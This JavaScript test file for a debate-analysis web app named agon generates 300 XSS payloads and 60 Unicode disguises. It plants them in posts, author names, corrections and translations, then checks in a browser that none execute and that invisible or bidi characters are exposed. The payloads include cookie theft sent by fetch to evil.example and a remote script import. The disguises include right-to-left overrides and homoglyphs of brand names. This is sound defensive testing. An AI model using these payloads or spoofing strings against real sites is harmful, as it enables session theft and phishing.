// Posts, names, titles, translations and corrections that try to become code, or to look like something else.
import { spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

/** 300 texts that would run if any page took them for markup. */
export function payloads() {
  const starts = ["<script>", "<img src=x onerror=", "<svg onload=", "\"><script>", "'><img src=x onerror=", "<iframe srcdoc=", "<a href=javascript:", "<style>@import '", "<base href='", "<meta http-equiv=refresh content='0;url=", "</title><script>", "<!--><script>", "<math><mi xlink:href=javascript:", "<details open ontoggle=", "<body onload="];
  const middles = ["alert(1)", "fetch('https://evil.example/'+document.cookie)", "window.opener.location='https://evil.example'", "document.body.innerHTML=''", "import('https://evil.example/x.js')"];
  const ends = ["</script>", ">", "'>", "\">"];
  return starts.flatMap((start) => middles.flatMap((middle) => ends.map((end) => start + middle + end)));
}

/** 60 texts, no two alike, that look like others, hide something, or turn around what stands beside them. */
export function disguises() {
  const turning = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c].map((c) => `gpj${String.fromCodePoint(c)}exe`);
  const hidden = [0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0xfeff, 0x180e, 0xe0041, 0xe007f].map((c) => `ad${String.fromCodePoint(c)}min`);
  const alike = ["p\u0430ypal", "g\u043E\u043Egle", "\u0410dmin", "\u03BFffice", "micros\u03BFft", "\u0391lpha", "h\u0435llo", "\u0455cope", "b\u0456g", "\u0578pen", "\u13AAndrew", "ａｄｍｉｎ", "𝐚𝐝𝐦𝐢𝐧", "𝓪𝓭𝓶𝓲𝓷", "ⓐⓓⓜⓘⓝ", "ᴀᴅᴍɪɴ", "rn vs m", "l1I|", "O0〇○", "工エ⼯"];
  const joined = ["e\u0301te\u0301", "é".normalize("NFD") + "é", "\u0301combining", "Z\u0336\u0321a\u0337l\u0334g\u0335o", "👩‍👩‍👧‍👦", "👨🏽‍💻", "🏳️‍🌈", "🇨🇳🇺🇸", "1️⃣", "𠮷野家", "\u{2F81A}", "豈\uF900", "ﷺ", "שלום abc", "abc مرحبا 123"];
  return [...turning, ...hidden, ...alike, ...joined, "\uFFFD\uE000"];
}

/** Debates whose questions, names, sides and arguments are payloads, and disguised: six for, six against, and who answers them. */
function debateLines(texts, hidden) {
  const reasons = ["花的钱最后都由老百姓来出", "别的国家早就试过了", "我在这一行干了十年看得很清楚", "年轻人的想法和老人不一样", "农村和城市的情况差得太远", "执行起来没有人监督", "统计数字根本对不上", "家里的孩子最有体会", "企业自己会算这笔账", "医生和老师都这么讲", "过几年政策又要变", "看看日本走过的路"];
  const lines = [];
  for (const [q, what] of ["取消大学英语考试", "给新能源汽车补贴", "禁止外卖送货上楼"].entries()) {
    const question = `应不应该${what}？${hidden[4]}${texts[q * 40]}`;
    for (let i = 0; i < 24; i++) {
      const side = i % 2 ? `我反对${what}，不应该${what}，这样做没有道理` : `我支持${what}，应该${what}，这样做对大家都好`;
      lines.push({ question, question_id: `q${q}`, id: `q${q}a${i}`, author: `${hidden[i]}${texts[(q * 24 + i * 7) % texts.length]}${i}`, votes: i, text: `${side}。${reasons[(i * 5 + q) % 12]}，${texts[q * 40 + i]}。`, ...(i < 12 ? {} : { parent: `q${q}a${(i * 5) % 12}` }) });
    }
  }
  return lines;
}

const jsonl = (lines) => lines.map((line) => JSON.stringify(line)).join("\n") + "\n";

/** A case of all that; the name of a debate is a payload, too. */
function hostileCase(agon, folder, check) {
  const texts = payloads(), hidden = disguises();
  check(texts.length === 300 && new Set(texts).size === 300, "attacks: 300 different payloads");
  check(hidden.length === 60 && new Set(hidden).size === 60, "attacks: 60 different disguises");
  const posts = texts.map((text, i) => ({ question: i % 2 ? `国家该不该管？${text}` : text, author: text.slice(0, 60), votes: i, text: `反对这种说法，${text}，国家不应该管。` }));
  posts.push(...hidden.map((text, i) => ({ question: `看上去是什么${Math.floor(i / 30)}`, question_id: `h${Math.floor(i / 30)}`, author: text, votes: i, text: `名字写作 ${text} 的国产芯片应该由国家主导` })));
  posts.push(...debateLines(texts, hidden));
  writeFileSync(join(folder, "posts.jsonl"), jsonl(posts));
  const made = join(folder, "case");
  spawnSync(agon, ["import", made, join(folder, "posts.jsonl"), "--quiet"]);
  writeFileSync(join(made, "corrections.jsonl"), jsonl([
    { id: "one", at: texts[1], who: texts[2], what: "rename", why: texts[3], target: { threads: ["q1"] }, value: { text: texts[4] } },
    { id: "two", who: texts[5], what: "set_proposition", why: texts[6], target: { threads: ["q2"] }, value: { text: texts[7], pole_a: hidden[5] + texts[8], pole_b: texts[9] } },
    { id: texts[10], at: texts[11], who: texts[12], what: "comment", target: { threads: ["q1"] }, value: { text: texts[13] } },
    { id: "four", what: texts[14], target: { original: texts[15] }, value: texts[16], undoes: texts[17] }]));
  const analysed = spawnSync(agon, ["analyze", made, "--quiet"]);
  check(analysed.status === 0, `attacks: analyze ended with ${analysed.status}: ${analysed.stderr}`);
  return { made, count: posts.length, named: texts[4], translated: texts[20], maker: texts[21] };
}

/** A translation of each of these that is a payload, by a payload. */
function translate(made, originals, { translated, maker }) {
  const line = (original, part) => ({ sha256: createHash("sha256").update(part ? `${original}#${part}` : original).digest("hex"), original, language: "en", ...(part ? { part } : {}), text: translated, maker });
  writeFileSync(join(made, "translations.jsonl"), jsonl(originals.flatMap((original) => [line(original), line(original, "a"), line(original, "b")])));
}

export async function checkAttacks({ browser, check, serve, watched, agon, shots }) {
  const folder = mkdtempSync(join(tmpdir(), "agon-hostile-"));
  const hostile = hostileCase(agon, folder, check);
  const address = await serve(hostile.made, "--edit"), base = new URL(address).origin + "/";
  const get = async (path) => (await fetch(base + path)).json();
  const context = await browser.newContext(); // with the page's own Content-Security-Policy in force
  const { page, seen } = await watched(context, base);
  await page.goto(address);
  const numbered = new Map();
  const visit = async (path) => {
    await page.goto(base + path);
    await page.waitForSelector("h1");
    await page.waitForFunction(() => !document.querySelector(".waiting"));
    // What reads from right to left stays inside its own element.
    const loose = await page.evaluate(() => [...document.querySelectorAll(".who, .text")].filter((e) => !e.querySelector("bdi")).length);
    check(loose === 0, `attacks: ${path}: ${loose} names or texts stand outside <bdi>`);
    await plainPlaces(page, path, check, numbered);
  };
  const rows = await get("api/rows?table=threads/posts");
  check(rows.all === hostile.count, `attacks: ${rows.all} of ${hostile.count} hostile posts came in`);
  for (let offset = 0; offset < rows.all; offset += 200) for (const table of ["posts", "questions"]) await visit(`rows?table=threads/${table}&offset=${offset}`);
  for (const path of ["", "quality", "method", "actors", "consensus", "numbers", ...["script", "alert", "evil", "国家"].map((q) => `search?q=${q}`)]) await visit(path);
  await debatePages(page, visit, get, hostile, check);
  await disguisedNames(page, visit, get, check, shots);
  await disguisesElsewhere(page, visit, get, check, shots);
  for (const place of ["text", "title", "option", "label", "window"]) check((numbered.get(place) ?? 0) > 0, `attacks: no disguise was met in a ${place}`);
  const alive = await page.evaluate(() => document.querySelectorAll("header.top nav a").length > 5);
  check(alive, "attacks: the page was rewritten");
  const policed = seen.filter((s) => !s.includes("404"));
  check(policed.length === 0, `attacks: ${policed.slice(0, 3).join("; ")}`);
  await context.close();
  rmSync(folder, { recursive: true, force: true });
}

/** Debates, networks, voices, coding and corrections, with translations beside the originals. */
async function debatePages(page, visit, get, hostile, check) {
  const debates = (await get("api/overview")).debates;
  check(debates.length >= 2, `attacks: ${debates.length} debates of payloads`);
  const pages = await Promise.all(debates.map((d) => get(`api/debate?id=${d.debate}`)));
  translate(hostile.made, pages.flatMap((p) => [p.question, p.heading.en, ...p.questions.map((q) => q.title), ...p.statements.map((s) => s.quote.text), ...p.key_points.map((k) => k.quote?.text ?? ""), ...p.relations.exchanges.flatMap((e) => [e.from.text, e.to.text])]), hostile);
  const voices = new Set(pages.flatMap((p) => p.relations.nodes.slice(0, 3).map((n) => n.voice)));
  check(voices.size > 3 && pages.some((p) => p.statements.length + p.key_points.length > 0), "attacks: nobody answers anybody, or nobody says anything");
  const shown = new Set();
  for (const { debate } of debates) {
    await visit(`debate/${debate}?lang=en&translations=1`);
    await page.waitForSelector(".translation", { timeout: 30000 }).catch(() => undefined);
    for (const text of await page.$$eval("h1 > bdi, .translation, .notes li > bdi, .side h2 > bdi", (all) => all.map((e) => e.textContent))) shown.add(text);
    await visit(`debate/${debate}?view=network`);
    await visit(`placing/${debate}`);
    await visit(`coding/${debate}`);
    await page.locator("form.search input").fill("<b>coder</b>");
    await page.locator("form.search button").click();
    await page.waitForSelector("main .facts button");
    await page.locator("main .facts button").first().click();
  }
  check([...shown].some((text) => text === hostile.named), "attacks: no debate is called by the payload");
  check([...shown].some((text) => text.startsWith(hostile.translated)), "attacks: no translation is the payload");
  for (const voice of voices) await visit(`voice/${voice}`);
  for (const { thread } of pages.flatMap((p) => p.questions)) await visit(`thread/${thread}?translations=1`);
  await visit("corrections");
  check((await page.$$(".history > .line")).length === 4, "attacks: not every planted correction is listed");
}

const unseen = /[\u061C\u180E\u200B-\u200F\u202A-\u202E\u2060-\u2069\uFEFF\u{E0000}-\u{E007F}]/gu;
/** How many characters of it stand with their number: all that cannot be seen, but for those that join pictures into one. */
const chipsIn = (text) => (/\p{Extended_Pictographic}/u.test(text) ? 0 : (text.match(unseen) ?? []).length);

/** Where no elements can stand (charts, choices, labels, the window's title) nothing unseen stands: its number does. Counts them by place. */
async function plainPlaces(page, path, check, numbered) {
  const texts = await page.evaluate(() => [
    ...[...document.querySelectorAll("svg text")].map((e) => ["text", [...e.childNodes].filter((n) => n.nodeType === 3).map((n) => n.data).join("")]),
    ...[...document.querySelectorAll("svg title")].map((e) => ["title", e.textContent]),
    ...[...document.querySelectorAll("option")].map((e) => ["option", e.textContent]),
    ...[...document.querySelectorAll("[aria-label]")].map((e) => ["label", e.getAttribute("aria-label")]),
    ["window", document.title]]);
  for (const [place, text] of texts) {
    check(chipsIn(text) === 0, `attacks: ${path}: ${place} ${JSON.stringify(text)} holds what cannot be seen`);
    if (text.includes("[U+")) numbered.set(place, (numbered.get(place) ?? 0) + 1);
  }
}

/** Each disguise is in the page as it was written, and what cannot be seen or turns others has its number beside it. */
async function disguisedNames(page, visit, get, check, shots) {
  const questions = (await get("api/rows?table=threads/questions&where=" + encodeURIComponent("title~看上去是什么"))).rows;
  let names = 0, chips = 0, mixed = 0;
  for (const { thread } of questions) {
    const posts = (await get(`api/thread?id=${thread}`)).posts;
    await visit(`thread/${thread}`);
    for (const post of posts) {
      const card = page.locator(`#post-${post.post}`);
      const told = await card.evaluate((e) => ({ name: e.querySelector(".who bdi").textContent, text: e.querySelector(".text bdi").textContent, chips: e.querySelectorAll(".who .chip").length, mixed: e.querySelectorAll(".mixed").length }));
      check(told.name === post.author && told.text === post.text, `attacks: ${JSON.stringify(post.author)} is shown as ${JSON.stringify(told.name)}`);
      const expected = chipsIn(post.author);
      check(told.chips === expected, `attacks: ${JSON.stringify(post.author)} has ${told.chips} chips, not ${expected}`);
      if (/^[\u061Ca-z]+$/.test(post.author)) check(told.mixed === 0, `attacks: ${JSON.stringify(post.author)} is told to be of several scripts`);
      names++, (chips += told.chips), (mixed += told.mixed);
    }
    if (shots) await page.screenshot({ path: join(shots, `disguises-${thread}.png`), fullPage: true });
  }
  check(names === 60 && chips >= 20 && mixed >= 9, `attacks: ${names} disguised names, ${chips} chips, ${mixed} of mixed scripts`);
}

/** The same names and texts where they are found again: in the hits of a search, in rows of a table, over charts. */
async function disguisesElsewhere(page, visit, get, check, shots) {
  let hits = 0, chips = 0, mixed = 0;
  for (const offset of [0, 30]) {
    const answer = await get(`api/search?q=${encodeURIComponent("名字写作")}&offset=${offset}`);
    await visit(`search?q=${encodeURIComponent("名字写作")}&offset=${offset}&lang=en`);
    const told = await page.$$eval(".hits > li", (all) => all.map((li) => ({ text: li.querySelector("a").textContent, inText: li.querySelectorAll("a .chip").length, name: li.querySelector(".hint bdi").textContent, inName: li.querySelectorAll(".hint .chip").length, mixed: li.querySelectorAll(".mixed").length })));
    for (const [i, { author, snippet }] of answer.hits.entries()) {
      const shown = told[i], text = snippet.before + snippet.hit + snippet.after;
      check(shown.text.includes(text) && shown.name === author && shown.inText === chipsIn(text) && shown.inName === chipsIn(author), `attacks: the hit ${JSON.stringify(text)} of ${JSON.stringify(author)} is shown as ${JSON.stringify(shown)}`);
      hits++, (chips += shown.inText + shown.inName), (mixed += shown.mixed);
    }
    if (shots) await page.screenshot({ path: join(shots, `disguises-search-${offset}.png`), fullPage: true });
  }
  check(hits === 60 && chips >= 40 && mixed >= 9, `attacks: ${hits} hits with disguises, ${chips} chips, ${mixed} of mixed scripts`);
  const where = `where=${encodeURIComponent("author_name in " + disguises().filter((name) => !name.includes("|")).join("|"))}`, { rows } = await get(`api/rows?table=threads/posts&${where}`);
  await visit(`rows?table=threads/posts&${where}&lang=en`);
  const cells = await page.$$eval("table.rows tbody tr", (all) => all.map((tr) => [...tr.querySelectorAll("td")].map((td) => [td.textContent, td.querySelectorAll(".chip").length, td.querySelectorAll(".mixed").length])));
  let named = 0, flagged = 0;
  for (const [i, row] of rows.entries())
    for (const [text, count, foreign] of cells[i].filter(([text]) => text.startsWith(row.author_name))) {
      check(count === chipsIn(row.author_name), `attacks: a cell ${JSON.stringify(text)} has ${count} chips`);
      named++, (flagged += foreign);
    }
  check(rows.length === cells.length && named >= 2 * rows.length && flagged >= 18, `attacks: ${named} cells with the names of ${rows.length} rows, ${flagged} of mixed scripts`);
  if (shots) await page.screenshot({ path: join(shots, "disguises-rows.png") });
  await visit("?lang=en");
  const captions = await page.$$eval("figure.chart.little figcaption", (all) => all.map((e) => [e.textContent, e.querySelector("bdi")?.textContent]));
  check(captions.length > 0 && captions.every(([text, name]) => name && text.endsWith(`: ${name}`)), `attacks: a chart's caption holds a name outside <bdi>: ${JSON.stringify(captions[0])}`);
}
